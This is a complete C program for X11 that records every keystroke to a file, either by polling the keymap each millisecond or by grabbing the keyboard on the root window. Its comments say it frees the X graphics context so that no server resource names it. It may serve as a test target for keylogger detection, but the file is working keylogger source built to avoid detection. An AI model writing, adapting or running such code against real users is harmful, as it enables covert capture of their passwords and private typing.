/* A keystroke recorder that owns no resource, so that nothing names it to the server: it frees
 * the graphics context Xlib makes at connection. Mode "poll" reads the state of every key
 * (QueryKeymap, which needs no grab and no window) every millisecond; mode "grab" takes the
 * keyboard with an active grab on the root window and reads its events. Each key pressed is
 * appended to FILE at once: printable characters as they are, others as <keysym name>. Writes
 * its PID to standard output once it listens; ends when its connection is closed. Exit status 1
 * when the display cannot be opened or the keyboard cannot be grabbed. */
#include <X11/XKBlib.h>
#include <X11/Xlib.h>
#include <X11/Xutil.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void record(FILE* out, KeySym keysym) {
    if (keysym >= 0x20 && keysym <= 0x7e) {
        fputc((int)keysym, out);
    } else {
        const char* name = XKeysymToString(keysym);
        fprintf(out, "<%s>", name != NULL ? name : "?");
    }
    fflush(out);
}

static int pressed(const char keys[32], int code) {
    return (keys[code / 8] >> (code % 8)) & 1;
}

static void poll_keys(Display* display, FILE* out) {
    const KeyCode shift_l = XKeysymToKeycode(display, XK_Shift_L);
    const KeyCode shift_r = XKeysymToKeycode(display, XK_Shift_R);
    char before[32] = {0};
    const struct timespec step = {0, 1000000};
    for (;;) {
        char now[32];
        XQueryKeymap(display, now);
        const int shift = pressed(now, shift_l) || pressed(now, shift_r);
        for (int code = 8; code < 256; ++code) {
            if (pressed(now, code) && !pressed(before, code)) {
                record(out, XkbKeycodeToKeysym(display, (KeyCode)code, 0, shift ? 1 : 0));
            }
        }
        memcpy(before, now, sizeof before);
        nanosleep(&step, NULL);
    }
}

static void read_grabbed_keys(Display* display, FILE* out) {
    for (;;) {
        XEvent event;
        XNextEvent(display, &event);
        if (event.type == KeyPress) {
            char text[8];
            KeySym keysym = NoSymbol;
            XLookupString(&event.xkey, text, sizeof text, &keysym, NULL);
            record(out, keysym);
        }
    }
}

int main(int argc, char** argv) {
    if (argc != 3 || (strcmp(argv[1], "poll") != 0 && strcmp(argv[1], "grab") != 0)) {
        fprintf(stderr, "usage: x_key_recorder poll|grab FILE\n");
        return 2;
    }
    FILE* out = fopen(argv[2], "a");
    if (out == NULL) {
        perror(argv[2]);
        return 2;
    }
    Display* display = XOpenDisplay(NULL);
    if (display == NULL) {
        fprintf(stderr, "x_key_recorder: cannot open the display\n");
        return 1;
    }
    XFreeGC(display, DefaultGC(display, DefaultScreen(display)));
    const int grab = strcmp(argv[1], "grab") == 0;
    if (grab) {
        const int status = XGrabKeyboard(display, DefaultRootWindow(display), False, GrabModeAsync,
                                         GrabModeAsync, CurrentTime);
        if (status != GrabSuccess) {
            fprintf(stderr, "x_key_recorder: keyboard grab refused (%d)\n", status);
            return 1;
        }
    }
    XSync(display, False);
    printf("%d\n", (int)getpid());
    fflush(stdout);
    if (grab) {
        read_grabbed_keys(display, out);
    } else {
        poll_keys(display, out);
    }
    return 0;
}
